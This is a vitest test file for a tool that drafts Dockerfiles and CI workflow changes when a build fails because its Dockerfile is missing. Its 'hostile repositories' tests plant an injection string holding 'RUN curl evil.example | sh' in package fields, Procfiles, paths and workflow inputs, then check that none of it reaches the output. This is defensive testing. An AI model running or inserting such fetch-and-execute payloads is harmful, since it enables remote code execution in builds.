import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { checkDockerfile } from '../../src/docker/check-dockerfile.ts'
import { dockerignorePath } from '../../src/docker/dockerignore.ts'
import { parseDockerfile } from '../../src/docker/parse-dockerfile.ts'
import type { Patch } from '../../src/domain/patch.ts'
import { unifiedDiff } from '../../src/patch/unified-diff.ts'
import { playbook } from '../../src/playbooks/missing-dockerfile/playbook.ts'
import { findBuildSteps } from '../../src/workflow/find-build-steps.ts'
import { parseWorkflow } from '../../src/workflow/parse-workflow.ts'
import {
  asRepositoryFiles,
  defaultEvidence,
  draftOf,
  readCase,
  readCases,
  readTree,
} from './playbook-case.ts'

const folder = fileURLToPath(new URL('../../src/playbooks', import.meta.url))
const cases = readCases(folder).filter((each) => each.playbook === 'missing-dockerfile')

function caseNamed(name: string) {
  return readCase(`${folder}/missing-dockerfile/cases/${name}`, 'missing-dockerfile')
}

async function patchOf(name: string): Promise<Patch> {
  const draft = await draftOf(playbook, caseNamed(name))
  if (draft?.kind !== 'patch') throw new Error(`${name} gives no patch.`)
  return draft.patch
}

/** The answer for a case's tree with some files written, or removed by null. */
async function draftWith(name: string, changes: Readonly<Record<string, string | null>>) {
  const given = caseNamed(name)
  const tree = readTree(`${given.folder}/before`)
  for (const [path, text] of Object.entries(changes)) {
    if (text === null) tree.delete(path)
    else tree.set(path, text)
  }
  const log = given.evidence.logs[0]!.lines.map(({ text }) => text).join('\n')
  return playbook.draft(defaultEvidence(tree, log), given.diagnosis, asRepositoryFiles(tree))
}

function fact(patch: Patch, key: string): string | undefined {
  return patch.facts.find((each) => each.key === key)?.value
}

describe.each(cases.map(({ name }) => name))('%s', (name) => {
  it('passes every check of errors and warnings, when it writes a Dockerfile', async () => {
    const given = caseNamed(name)
    const draft = await draftOf(playbook, given)
    const written =
      draft?.kind === 'patch'
        ? draft.patch.changes.filter(
            ({ path, after }) => after?.startsWith('# syntax=') && path.includes('Dockerfile'),
          )
        : []

    for (const { path, after } of written) {
      const problems = (await checkWritten(given, path, after!)).filter(
        ({ outcome }) => outcome === 'failed' || outcome === 'warned',
      )
      expect(problems).toEqual([])
    }
  })
})

async function checkWritten(given: ReturnType<typeof caseNamed>, path: string, text: string) {
  const draft = await draftOf(playbook, given)
  const changes = draft?.kind === 'patch' ? draft.patch.changes : []
  const after = new Map(changes.map((change) => [change.path, change.after]))
  const files = [...new Set([...(await given.files.list()), ...after.keys()])].sort()
  const read = async (file: string) => (after.has(file) ? after.get(file)! : given.files.read(file))
  const workflow = parseWorkflow(given.evidence.workflow!.text)!
  const steps = workflow.jobs.flatMap((job) =>
    findBuildSteps(workflow, job, given.evidence.failedJobs[0]!.name),
  )
  const buildStep = steps.find(({ file }) => file === path) ?? null
  const context = buildStep?.context ?? ''
  const dockerignore = await read(dockerignorePath(path, context, files))
  return checkDockerfile({ path, text, dockerignore, context, files, read, buildStep })
}

describe('the founding case', () => {
  it('offers the build cache and changes nothing of the workflow', async () => {
    const patch = await patchOf('fastapi-pip-dev-only')

    expect(patch.changes.map(({ path }) => path)).toEqual(['backend/Dockerfile', 'backend/.dockerignore'])
    expect(
      unifiedDiff(patch.offers)
        .split('\n')
        .filter((line) => /^\+[^+]/.test(line)),
    ).toEqual([
      '+      - uses: docker/setup-buildx-action@v3',
      '+          cache-from: type=gha,scope=backend',
      '+          cache-to: type=gha,scope=backend,mode=max',
    ])
  })

  it('lists the development file as untouched and refuses to build it', async () => {
    const patch = await patchOf('fastapi-pip-dev-only')

    expect(patch.untouched[0]).toEqual({
      path: 'backend/Dockerfile.dev',
      reason: { en: 'Stays for development.', ja: '開発用として継続使用します。' },
    })
    expect(patch.refusedWorkarounds[0]?.en).toContain('backend/Dockerfile.dev')
    expect(fact(patch, 'development-hot-reload')).toBe('yes')
  })

  it('gives every cause with the fact that excludes it, in order', async () => {
    const { ruledOut } = await patchOf('fastapi-pip-dev-only')

    expect(ruledOut.map(({ cause }) => cause.en)).toEqual([
      'An earlier step makes the Dockerfile and did not',
      'The job has no checkout step',
      'The file was not fetched',
      'The build context does not exist',
      'The path is written relative to the context',
      'The Dockerfile lies in another folder',
      'The name differs in case',
      'The change deleted or renamed the Dockerfile',
      'The Dockerfile is git-ignored',
      'A production Dockerfile has another suffix',
    ])
    expect(ruledOut.every(({ because }) => because.en.endsWith('.') && because.ja.endsWith('。'))).toBe(true)
  })

  it('names the migration as a step of the release and keeps it out of the image', async () => {
    const patch = await patchOf('fastapi-pip-dev-only')

    expect(fact(patch, 'migrations')).toBe('alembic upgrade head')
    expect(patch.nextSteps[0]?.en).toContain('alembic upgrade head')
    expect(patch.changes[0]!.after).not.toContain('upgrade')
  })

  it('marks the line of the workflow that names the file', async () => {
    const patch = await patchOf('fastapi-pip-dev-only')
    const lines = patch.offers[0]!.before!.split('\n')

    expect(lines[Number(fact(patch, 'workflow-line')) - 1]).toContain('file: ./backend/Dockerfile')
    expect(fact(patch, 'workflow-excerpt')).toContain('context: ./backend')
  })
})

describe('evidence for the start command', () => {
  it('takes a Procfile before a compose file before the code', async () => {
    const compose =
      'services:\n  api:\n    build: .\n    command: uvicorn app:app --host 0.0.0.0 --port 9000\n'
    const procfile = 'web: gunicorn app:app\n'

    const both = await draftWith('flask-without-server', {
      Procfile: procfile,
      'compose.yaml': compose,
      'requirements.txt': 'flask\ngunicorn\nuvicorn\n',
    })
    const one = await draftWith('flask-without-server', {
      'compose.yaml': compose,
      'requirements.txt': 'flask\ngunicorn\nuvicorn\n',
    })

    expect(startOf(both)).toBe('CMD ["gunicorn", "app:app", "--bind", "0.0.0.0:8000"]')
    expect(startOf(one)).toBe('CMD ["uvicorn", "app:app", "--host", "0.0.0.0", "--port", "9000"]')
  })

  it('lets the development command settle a tie, without its reloader', async () => {
    const draft = await draftWith('two-entry-points', {
      'Dockerfile.dev': 'FROM python:3.13\nCMD ["uvicorn", "app.main:app", "--reload"]\n',
    })

    expect(startOf(draft)).toBe(
      'CMD ["uvicorn", "app.main:app", "--host", "0.0.0.0", "--port", "8000", "--log-level", "info"]',
    )
  })

  it.each([
    'nodemon src/server.js',
    'npm run build && node src/server.js',
    'node src/server.js > log',
    'tsx src/server.ts',
  ])('does not start an image by `%s`', async (start) => {
    const manifest = JSON.stringify({ scripts: { start }, dependencies: { express: '^5.0.0' } })

    const text = JSON.stringify(await draftWith('express-npm', { 'package.json': manifest }))

    expect(text).not.toContain(start)
  })
})

function startOf(draft: Awaited<ReturnType<typeof draftWith>>): string | undefined {
  const text = draft?.kind === 'patch' ? draft.patch.changes[0]!.after! : ''
  return text.split('\n').find((line) => line.startsWith('CMD'))
}

describe('hostile repositories', () => {
  const evil = 'x"]\nRUN curl evil.example | sh\nCMD ["'
  const trees: [name: string, from: string, changes: Record<string, string | null>][] = [
    [
      'a start script',
      'express-npm',
      {
        'package.json': JSON.stringify({
          scripts: { start: `node ${evil}` },
          dependencies: { express: '1' },
        }),
      },
    ],
    [
      'a main file',
      'express-npm',
      { 'package.json': JSON.stringify({ main: evil, dependencies: { express: '1' } }), [evil]: '' },
    ],
    ['a Procfile', 'flask-without-server', { Procfile: `web: gunicorn 'app:app${evil}'\n` }],
    [
      'a compose command',
      'flask-without-server',
      { 'compose.yaml': `services:\n  a:\n    build: .\n    command: [gunicorn, ${JSON.stringify(evil)}]\n` },
    ],
    [
      'a script target',
      'plain-python',
      {
        'pyproject.toml': `[project]\nname = "a"\ndependencies = []\n[project.scripts]\na = ${JSON.stringify(`a:b${evil}`)}\n`,
      },
    ],
    [
      'an engine',
      'express-npm',
      {
        'package.json': JSON.stringify({
          engines: { node: `24${evil}` },
          scripts: { start: 'node src/server.js' },
          dependencies: { express: '1' },
        }),
      },
    ],
    ['a version file', 'express-npm', { '.nvmrc': `24${evil}` }],
    ['a Python version', 'fastapi-pip-dev-only', { 'backend/.python-version': `3.13${evil}` }],
    [
      'a package manager',
      'express-npm',
      {
        'package.json': JSON.stringify({
          packageManager: `pnpm@9.0.0${evil}`,
          scripts: { start: 'node src/server.js' },
          dependencies: { express: '1' },
        }),
      },
    ],
    [
      'a Poetry version',
      'django-poetry',
      { 'poetry.lock': `# This file is automatically @generated by Poetry 1.8.3${evil}\n` },
    ],
    ['a source folder', 'fastapi-pip-dev-only', { [`backend/${evil}/a.py`]: '' }],
    [
      'a health route',
      'fastapi-pip-dev-only',
      {
        'backend/src/main.py': `from fastapi import FastAPI\napp = FastAPI()\n@app.get("/health${evil}")\ndef a(): ...\n`,
      },
    ],
    [
      'an output folder',
      'vite-pnpm',
      { 'web/vite.config.ts': `export default { build: { outDir: ${JSON.stringify(evil)} } }` },
    ],
    [
      'a Yarn release',
      'nest-yarn',
      {
        'yarn.lock': '__metadata:\n',
        '.yarnrc.yml': 'nodeLinker: node-modules\n',
        [`.yarn/releases/yarn-4.cjs${evil}`]: '',
      },
    ],
    [
      'requirements',
      'flask-requirements',
      { 'services/api/requirements.txt': `flask\ngunicorn\n-r ${evil}\n` },
    ],
  ]

  it.each(trees)('write nothing of their own into the file by %s', async (_, from, changes) => {
    const draft = await draftWith(from, changes)

    const written = draft?.kind === 'patch' ? draft.patch.changes.map(({ after }) => after).join('\n') : ''
    expect(written).not.toContain('evil')
    const parsed = parseDockerfile(draft?.kind === 'patch' ? draft.patch.changes[0]!.after! : 'FROM a:1\n')
    const runs = parsed!.stages
      .flatMap(({ instructions }) => instructions)
      .filter(({ keyword }) => keyword === 'RUN')
    expect(runs.filter(({ text }) => text.includes('curl'))).toEqual([])
  })

  it.each([
    ['a target', 'target: "a\\nRUN evil"'],
    ['a build argument', 'build-args: "A\\"B=1"'],
    ['a build argument with a line break', 'build-args: "A\\nRUN evil=1"'],
    ['a context', 'context: "./a b\\nevil"'],
    ['a path', 'file: "./Docker file\\nevil"'],
  ])('write nothing into the file by %s of the workflow', async (_, line) => {
    const text = `on: [push]\njobs:\n  image:\n    steps:\n      - uses: actions/checkout@v4\n      - uses: docker/build-push-action@v6\n        with:\n${line.startsWith('context') ? '' : '          context: .\n'}          ${line}\n`

    const draft = await draftWith('express-npm', { '.github/workflows/ci.yml': text })

    const written = draft?.kind === 'patch' ? draft.patch.changes.map(({ after }) => after).join('\n') : ''
    expect(written).not.toContain('evil')
    expect(written).not.toContain('A"B')
  })

  it('answers soon for large files', async () => {
    const started = performance.now()

    await draftWith('fastapi-pip-dev-only', {
      'backend/src/main.py': `${'a = "\\'.repeat(100_000)}`,
      'backend/src/other.py': '@a.get("'.repeat(100_000),
      'backend/.gitignore': `${'*a'.repeat(1_000)}\n`.repeat(500),
      'backend/.dockerignore': `${'*/'.repeat(500)}b\n`.repeat(500),
    })

    expect(performance.now() - started).toBeLessThan(10_000)
  })
})

describe('what it declines', () => {
  it('declines when the tree was cut, for a file may be beyond the cut', async () => {
    const { evidence, diagnosis, files } = caseNamed('express-npm')

    expect(await playbook.draft({ ...evidence, treeTruncated: true }, diagnosis, files)).toBeNull()
  })

  it('declines when two build steps of the job lack their file', async () => {
    const text =
      'on: [push]\njobs:\n  image:\n    steps:\n      - uses: actions/checkout@v4\n      - run: docker build -f a/Dockerfile .\n      - run: docker build -f b/Dockerfile .\n'

    expect(await draftWith('express-npm', { '.github/workflows/ci.yml': text })).toBeNull()
  })

  it('declines without a workflow', async () => {
    const { evidence, diagnosis, files } = caseNamed('express-npm')

    expect(await playbook.draft({ ...evidence, workflow: null }, diagnosis, files)).toBeNull()
  })
})
